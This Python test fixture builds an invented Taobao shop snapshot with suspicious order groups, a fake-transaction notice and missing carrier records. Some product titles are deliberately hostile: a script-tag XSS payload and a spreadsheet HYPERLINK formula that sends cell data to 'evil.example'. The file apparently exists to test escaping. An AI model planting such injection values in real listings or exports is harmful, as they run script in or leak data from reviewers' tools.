"""A published snapshot of an invented shop, with titles as a hostile buyer might wish them."""

from __future__ import annotations

import json
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

SCRIPT = "<script>alert(1)</script>透明手机壳"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
START = datetime(2025, 9, 1)
DAYS = 120

PAPERS = {
    "E01": ("承运商完整物流轨迹", "The carrier's full scan log", "快递公司", "Carrier"),
    "E02": ("承运商称重记录", "The carrier's weighing record", "快递公司", "Carrier"),
    "E10": (
        "平台活动报名记录",
        "Record of the platform campaign",
        "商家后台",
        "Shop's back office",
    ),
}


def paper(code: str) -> dict[str, Any]:
    zh, en, who_zh, who_en = PAPERS[code]
    return {"code": code, "zh": zh, "en": en, "who_zh": who_zh, "who_en": who_en}


def a_test(name: str, result: str, zh: str, en: str) -> dict[str, str]:
    return {"test": name, "result": result, "zh": zh, "en": en}


def a_group(
    number: int, assessment: str, size: int, start: datetime, missing: tuple[str, ...] = ()
) -> dict[str, Any]:
    return {
        "group_id": f"G-0000000{number}",
        "size": size,
        "assessment": assessment,
        "q_value": 10.0 ** -(7 - 2 * number),
        "p_value": 10.0 ** -(9 - 2 * number),
        "observed": float(size),
        "expected": 1.25,
        "statistic": "orders of one offer within an hour",
        "window_start": start.isoformat(),
        "window_end": (start + timedelta(minutes=45)).isoformat(),
        "detectors": ["same_offer_burst", "shared_phone"][: 3 - number] or ["third_party"],
        "families": ["time"],
        "contributions": [],
        "sentence": {
            "zh": f"45 分钟内有 {size} 个账号以同一金额购买同一商品，平时同样时间约 1.25 单。",
            "en": f"{size} accounts bought one item at one amount within 45 minutes; "
            "ordinarily 1.25 do.",
        },
        "tests": [
            a_test("promotion", "passed", "当时的价格低于平时。", "The price was low."),
            a_test("livestream", "failed", "没有活动记录。", "No campaign is on record."),
            a_test("own_test", "not_available", "没有物流重量。", "Parcels were not weighed."),
        ],
        "missing": [{**paper(code), "attached": False} for code in missing],
        "named": 2 if number == 1 else 0,
        "decision": None,
    }


def orders_of(group: dict[str, Any], title: str) -> list[dict[str, Any]]:
    start = datetime.fromisoformat(group["window_start"])
    return [
        {
            "order_id": f"26010{group['group_id'][-1]}98765432{n:04d}",
            "created_at": (start + timedelta(minutes=n)).isoformat(),
            "product_title": title if n % 3 == 0 else "加绒保暖居家棉拖鞋 女款冬季",
            "quantity": 1.0,
            "paid_amount": 39.9,
            "refund_amount": 39.9 if n == 1 else None,
            "status": "completed" if n else "shipped / closed",
            "buyer": f"B-{n:04x}{group['group_id'][-4:]}",
            "place": "浙江省 杭州市 西湖区",
            "group_id": group["group_id"],
            "assessment": group["assessment"],
            "score": 0.93,
            "named": n < group["named"],
            "decision": None,
        }
        for n in range(group["size"])
    ]


def invented_snapshot() -> dict[str, Any]:
    """Three groups (evidence, needs documents, explained), 77 orders in them, 120 days."""
    groups = [
        a_group(1, "evidence", 34, datetime(2025, 11, 11, 20, 5), ("E01", "E02")),
        a_group(2, "needs_documents", 13, datetime(2025, 12, 2, 9, 30), ("E01", "E10")),
        a_group(3, "none", 30, datetime(2025, 10, 1, 12, 0)),
    ]
    groups[1]["decision"] = {
        "decision": "hold",
        "reason": "等快递公司回复",
        "at": "2026-01-08T10:00:00",
    }
    orders = [
        order
        for group, title in zip(groups, (SCRIPT, FORMULA, "+86 手机支架"), strict=True)
        for order in orders_of(group, title)
    ]
    return {
        "version": 1,
        "made_at": "2026-11-22T08:00:00+00:00",
        "as_of": "2026-01-09T09:00:00",
        "case": {
            "shop": "棉拖小店 <b>&",
            "platform": "taobao",
            "zone": "Asia/Shanghai",
            "language": "zh",
            "currency": "CNY",
        },
        "notice": {
            "notice_id": "N-1",
            "platform": "taobao",
            "violation": "虚假交易",
            "rule_clause": "第五十条",
            "issued_at": "2026-01-05T10:00:00",
            "decided_at": None,
            "appeal_deadline": "2026-01-13T23:59:59",
            "attempts_allowed": 2,
            "attempts_used": 1,
            "attempts_left": 1,
            "measure": "扣 12 分",
            "orders_named": 3,
            "days_left": 4,
        },
        "totals": {
            "orders": sum(row["orders"] for row in per_day(groups)),
            "paid_amount": 200123.4,
            "first_day": "2025-09-01",
            "last_day": "2025-12-29",
            "orders_evidence": 34,
            "orders_needs_documents": 13,
            "groups_evidence": 1,
            "groups_needs_documents": 1,
            "groups_none": 1,
            "named": 3,
            "named_in_groups": 2,
            "decided": 13,
        },
        "detectors": [
            {"detector": "same_offer_burst", "state": "ran", "needs": ""},
            {"detector": "rapid_repeat", "state": "found_nothing", "needs": ""},
            {"detector": "address_variants", "state": "not_available", "needs": "orders.address"},
        ],
        "groups": groups,
        "orders": orders,
        "per_day": per_day(groups),
        "missing": [
            {**paper("E01"), "groups": [f"G-0000000{n}" for n in (1, 2, 3)], "orders": 77},
            {**paper("E02"), "groups": ["G-00000001"], "orders": 34},
            {**paper("E10"), "groups": ["G-00000002"], "orders": 13},
        ],
    }


def per_day(groups: list[dict[str, Any]]) -> list[dict[str, Any]]:
    rows = []
    for n in range(DAYS):
        day = (START + timedelta(days=n)).date().isoformat()
        here = [g for g in groups if g["window_start"].startswith(day)]
        row = {"date": day, "orders": 18 + (n * 7) % 11 + sum(g["size"] for g in here)}
        for name in ("evidence", "needs_documents"):
            row[name] = sum(g["size"] for g in here if g["assessment"] == name)
        rows.append(row)
    return rows


def nothing_found() -> dict[str, Any]:
    """The same shop without a notice, and with nothing that stands out."""
    snapshot = invented_snapshot()
    snapshot["totals"] |= {
        name: 0
        for name in snapshot["totals"]
        if name not in ("orders", "paid_amount") and not name.endswith("_day")
    }
    for row in snapshot["per_day"]:
        row["orders"] -= row["evidence"] + row["needs_documents"]
        row["evidence"] = row["needs_documents"] = 0
    for run in snapshot["detectors"][:2]:
        run["state"] = "found_nothing"
    return snapshot | {"notice": None, "groups": [], "orders": [], "missing": []}


def written(snapshot: dict[str, Any], path: Path) -> Path:
    """The snapshot in a file at `path`."""
    path.write_text(json.dumps(snapshot, ensure_ascii=False), "utf-8")
    return path
